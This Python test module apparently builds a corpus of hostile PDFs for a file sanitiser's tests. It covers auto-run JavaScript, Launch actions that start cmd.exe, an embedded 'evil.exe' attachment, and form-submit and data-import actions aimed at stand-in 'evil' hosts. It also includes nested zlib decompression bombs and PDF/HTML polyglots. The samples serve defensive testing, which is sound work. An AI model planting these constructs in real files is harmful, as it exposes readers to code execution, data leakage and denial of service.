"""Bad PDFs (坏文件中的 PDF): what acts, carries, reaches out, unfolds or says too much."""

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.factories import files
from tests.files.corpus import (
    CLEANED,
    PAYLOAD,
    SCRIPT,
    Bad,
    a_zip,
    every,
    exif,
    photo,
    saved,
    simple,
)

PACK = pikepdf.ObjectStreamMode.generate


def js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('PAYLOAD-7f3a')"))


def pdf(change: Callable[[pikepdf.Pdf], Any], pages: int = 1, **options: Any) -> bytes:
    with pikepdf.open(io.BytesIO(files.a_pdf(pages))) as made:
        change(made)
        into = io.BytesIO()
        made.save(into, **options)
    return into.getvalue()


def root(key: str, value: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root[key] = made.make_indirect(value)

    return change


def noted(**annotation: Any) -> Callable[[pikepdf.Pdf], None]:
    """Put one annotation on the first page."""

    def change(made: pikepdf.Pdf) -> None:
        told = {"Type": Name.Annot, "Rect": Array([0, 0, 99, 99]), "Subtype": Name.Link}
        made.pages[0].Annots = Array([made.make_indirect(Dictionary(**(told | annotation)))])

    return change


def act(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def packed_page(content: bytes, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    """Give the first page a content stream whose bytes are packed already."""

    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Contents = made.make_indirect(Stream(made, content, **more))

    return change


def bomb(times: int = 1) -> bytes:
    packed = zlib.compress(bytes(400_000_000), 9)
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def with_attachment(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ" + PAYLOAD


def orphan_script() -> bytes:
    """Return a PDF with a script object that nothing refers to."""
    return pdf(root("/Old", js()), preserve_pdfa=True).replace(b"/Old", b"/New")


def nested(depth: int) -> Any:
    inner: Any = Array([])
    for _ in range(depth):
        inner = Array([inner])
    return inner


Z = zlib.compress
simple(
    "pdf", "pdf_has_script",
    pdf_opens_with_script=lambda: pdf(root("/OpenAction", js())),
    pdf_packed_script=lambda: pdf(root("/OpenAction", js()), object_stream_mode=PACK),
    pdf_script_in_names=lambda: pdf(root("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), js()]))))),
    pdf_packed_script_in_names=lambda: pdf(root("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), js()])))), object_stream_mode=PACK),
    pdf_script_spelled_oddly=lambda: pdf(root("/OpenAction", act("JavaScriptXX"))).replace(b"/JavaScriptXX", b"/J#61vaScript"),
    pdf_acts_by_itself=lambda: pdf(root("/AA", Dictionary(WC=act("GoTo", D=Array([]))))),
    pdf_page_acts=lambda: pdf(lambda made: made.pages[0].__setitem__("/AA", Dictionary(O=js()))),
    pdf_note_with_script=lambda: pdf(noted(A=js())),
    pdf_field_with_script=lambda: pdf(noted(Subtype=Name.Widget, FT=Name.Tx, AA=Dictionary(K=js()))),
    pdf_script_in_a_chain=lambda: pdf(noted(A=act("GoTo", D=Array([]), Next=Array([js()])))),
    pdf_script_nobody_names=orphan_script,
    pdf_script_in_a_stream=lambda: pdf(lambda made: root("/OpenAction", act("JavaScript", JS=Stream(made, b"alert(1)")))(made)),
)  # fmt: skip
simple(
    "pdf", "pdf_launches",
    pdf_starts_a_program=lambda: pdf(root("/OpenAction", act("Launch", F=String("cmd.exe")))),
    pdf_link_starts_a_program=lambda: pdf(noted(A=act("Launch", Win=Dictionary(F=String("cmd.exe")))), object_stream_mode=PACK),
)  # fmt: skip
simple(
    "pdf", "pdf_has_attachment",
    pdf_with_attachment=lambda: pdf(with_attachment),
    pdf_with_packed_attachment=lambda: pdf(with_attachment, object_stream_mode=PACK),
    pdf_note_with_attachment=lambda: pdf(noted(Subtype=Name.FileAttachment, FS=Dictionary(F=String("a.exe")))),
    pdf_portfolio=lambda: pdf(root("/Collection", Dictionary(View=Name.D))),
    pdf_goes_into_attachment=lambda: pdf(noted(A=act("GoToE", T=Dictionary(R=Name.C)))),
)  # fmt: skip
simple(
    "pdf", "pdf_has_xfa",
    pdf_dynamic_form=lambda: pdf(lambda made: root("/AcroForm", Dictionary(XFA=Stream(made, b"<xdp/>"), Fields=Array([])))(made)),
)  # fmt: skip
simple(
    "pdf", "pdf_has_media",
    pdf_with_rich_media=lambda: pdf(noted(Subtype=Name.RichMedia)),
    pdf_with_screen=lambda: pdf(noted(Subtype=Name.Screen, A=act("Rendition"))),
    pdf_with_movie=lambda: pdf(noted(A=act("Movie"))),
    pdf_with_sound=lambda: pdf(noted(A=act("Sound"))),
    pdf_with_3d=lambda: pdf(noted(Subtype=Name("/3D"))),
)  # fmt: skip
simple(
    "pdf", "pdf_reaches_out",
    pdf_goes_to_another_file=lambda: pdf(noted(A=act("GoToR", F=String("//evil/share")))),
    pdf_sends_a_form=lambda: pdf(noted(A=act("SubmitForm", F=String("http://evil")))),
    pdf_fetches_data=lambda: pdf(noted(A=act("ImportData", F=String("http://evil")))),
    pdf_stream_from_outside=lambda: pdf(packed_page(b"", F=String("http://evil/a"))),
    pdf_names_a_file=lambda: pdf(root("/Own", Dictionary(Type=Name.Filespec, F=String("\\\\evil\\a")))),
    pdf_page_from_outside=lambda: pdf(lambda made: root("/Own", Stream(made, b"", Subtype=Name.Form, Ref=Dictionary(F=String("a"))))(made)),
)  # fmt: skip
simple(
    "pdf", "pdf_locked",
    pdf_with_password=lambda: pdf(lambda made: None, encryption=pikepdf.Encryption(user="1", owner="2")),
    pdf_with_rights=lambda: pdf(lambda made: None, encryption=pikepdf.Encryption(owner="2")),
)  # fmt: skip
simple("pdf", "pdf_too_long", pdf_of_many_pages=lambda: files.a_pdf(51))
simple(
    "pdf", "file_too_heavy",
    pdf_bomb=lambda: pdf(packed_page(bomb(), Filter=Name.FlateDecode), compress_streams=False),
    pdf_bomb_in_a_bomb=lambda: pdf(packed_page(bomb(2), Filter=Array([Name.FlateDecode] * 2)), compress_streams=False),
    pdf_many_middling_streams=lambda: pdf(lambda made: [root(f"/S{n}", Stream(made, Z(bytes(9_000_000), 9), Filter=Name.FlateDecode))(made) for n in range(40)], compress_streams=False),
    pdf_deeply_nested=lambda: pdf(root("/Own", nested(90))),
)  # fmt: skip
simple(
    "pdf", "picture_too_large",
    pdf_picture_flood=lambda: pdf(lambda made: root("/Own", Stream(made, b"", Width=60_000, Height=60_000, Subtype=Name.Image))(made)),
)  # fmt: skip
simple(
    "pdf", "file_damaged",
    pdf_cut_in_half=lambda: files.a_pdf(3)[:-400],
    pdf_of_a_header=b"%PDF-1.7\n",
    pdf_without_pages=lambda: pdf(lambda made: made.pages.__delitem__(0)),
    pdf_magic_then_html=b"%PDF-1.4\n" + SCRIPT,
    pdf_with_lost_table=lambda: files.a_pdf().replace(b"startxref\n", b"startxref\n9"),
)  # fmt: skip


def told(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = PAYLOAD.decode()
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = [PAYLOAD.decode()]


def with_photo(made: pikepdf.Pdf) -> None:
    """Put a photograph with the place it was taken at onto the page."""
    picture = Stream(
        made, saved(photo(), "JPEG", exif=exif()) + PAYLOAD, Subtype=Name.Image, Width=120,
        Height=80, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode,
    )  # fmt: skip
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=made.make_indirect(picture)))


simple(
    "pdf", CLEANED,
    pdf_then_zip=lambda: files.a_pdf() + a_zip(),
    pdf_then_html=lambda: files.a_pdf() + SCRIPT,
    pdf_with_author=lambda: pdf(told),
    pdf_with_links=lambda: pdf(noted(A=act("URI", URI=String("http://evil/PAYLOAD-7f3a")))),
    pdf_opens_at_a_page=lambda: pdf(lambda made: root("/OpenAction", Array([made.pages[0].obj, Name.Fit]))(made)),
    pdf_with_placed_photo=lambda: pdf(with_photo),
    pdf_with_private_data=lambda: pdf(lambda made: made.pages[0].__setitem__("/PieceInfo", Dictionary(Own=Dictionary(Private=String(PAYLOAD))))),
    pdf_with_unused_objects=lambda: pdf(root("/Own", String(PAYLOAD))),
)  # fmt: skip


def with_all_others() -> list[Bad]:
    """Return the whole corpus, these PDFs included."""
    return list(every())
